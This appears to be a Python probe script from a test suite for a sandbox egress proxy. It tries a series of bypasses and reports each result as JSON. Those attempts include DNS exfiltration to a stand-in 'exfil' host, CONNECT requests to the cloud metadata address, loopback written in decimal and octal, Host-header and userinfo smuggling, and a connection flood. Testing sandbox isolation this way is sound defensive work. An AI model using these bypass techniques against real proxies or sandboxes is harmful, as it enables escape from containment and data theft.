"""Run inside an island (python3 -c SOURCE WEB PORT OWN): every egress attack of issue 20
point 4, and the allowed path, printed as one JSON object. Standard library only."""

import json
import os
import socket
import sys
import time
import urllib.request

WEB, PORT, OWN = sys.argv[1], int(sys.argv[2]), sys.argv[3]
PROXY = ("127.0.0.1", 3128)
out = {}


def proxy_connect(authority, payload=b""):
    s = socket.create_connection(PROXY, 10)
    s.settimeout(20)
    s.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
    first = s.recv(4096)
    data = first
    if first.startswith(b"HTTP/1.1 200") and payload:
        s.sendall(payload)
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    s.close()
    return data.decode("latin-1")


def attempt(fn):
    try:
        return "ok:" + str(fn())[:600]
    except Exception as exc:  # the probe reports, the test judges
        return "fail:" + type(exc).__name__ + ":" + str(exc)[:120]


out["env"] = {k: os.environ.get(k) for k in ("HTTPS_PROXY", "HTTP_PROXY", "NO_PROXY",
                                             "https_proxy", "no_proxy")}
# allowed: plain HTTP through the proxy variables, and a CONNECT tunnel
out["http_via_proxy"] = attempt(
    lambda: urllib.request.urlopen(f"http://{WEB}:{PORT}/allowed", timeout=20).read().decode())
out["connect_allowed"] = attempt(lambda: proxy_connect(
    f"{WEB}:{PORT}", f"GET /tunnel HTTP/1.1\r\nHost: {WEB}\r\n\r\n".encode()))
# bypass: straight to the allowed host's address
out["direct"] = attempt(lambda: socket.create_connection((WEB, PORT), 5).close())
# DNS: a lookup, and a datagram straight to a resolver (exfiltration by query)
out["dns_lookup"] = attempt(lambda: socket.getaddrinfo("exfil.example.com", 443))


def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05exfil\x00\x00\x01\x00\x01",
             (WEB, 53))
    s.close()


out["dns_udp"] = attempt(udp)
# refused: another host and port, the host's own listener, loopback (the proxy's own side),
# metadata, and numeric spellings
out["connect_other_port"] = attempt(lambda: proxy_connect(f"{WEB}:22"))
out["connect_other_host"] = attempt(lambda: proxy_connect("refused.example.com:443"))
out["connect_own"] = attempt(lambda: proxy_connect(f"{OWN}:{PORT}"))
out["connect_loopback"] = attempt(lambda: proxy_connect("127.0.0.1:3128"))
out["connect_metadata"] = attempt(lambda: proxy_connect("169.254.169.254:80"))
out["connect_decimal"] = attempt(lambda: proxy_connect("2130706433:8080"))
out["connect_octal"] = attempt(lambda: proxy_connect("0177.0.0.1:8080"))
out["connect_mapped"] = attempt(lambda: proxy_connect("[::ffff:127.0.0.1]:8080"))


def host_trick():
    s = socket.create_connection(PROXY, 10)
    s.sendall(f"GET http://{WEB}:{PORT}/trick HTTP/1.1\r\nHost: refused.example.com\r\n\r\n"
              .encode())
    data = s.recv(4096)
    s.close()
    return data.decode("latin-1")


out["host_header_trick"] = attempt(host_trick)


def userinfo_trick():
    s = socket.create_connection(PROXY, 10)
    s.sendall(f"GET http://{WEB}:{PORT}@refused.example.com/ HTTP/1.1\r\n"
              "Host: refused.example.com\r\n\r\n".encode())
    data = s.recv(4096)
    s.close()
    return data.decode("latin-1")


out["userinfo_trick"] = attempt(userinfo_trick)
# the proxy directory shows only this island's socket
out["egress_dir"] = attempt(lambda: sorted(os.listdir("/run/atoll-egress")))
out["other_islands"] = attempt(lambda: os.listdir("/tmp/atoll-egress-0"))


def flood():
    held = []
    for _ in range(70):  # more than the proxy serves at once (64), each without a request
        held.append(socket.create_connection(PROXY, 10))
    time.sleep(1.0)
    answer = proxy_connect(f"{WEB}:{PORT}")
    for s in held:
        s.close()
    time.sleep(1.0)
    again = proxy_connect(f"{WEB}:{PORT}", f"GET /after-flood HTTP/1.1\r\nHost: {WEB}\r\n\r\n"
                          .encode())
    return answer.split("\r\n")[0] + " | " + again.split("\r\n")[0]


out["flood"] = attempt(flood)
print(json.dumps(out))
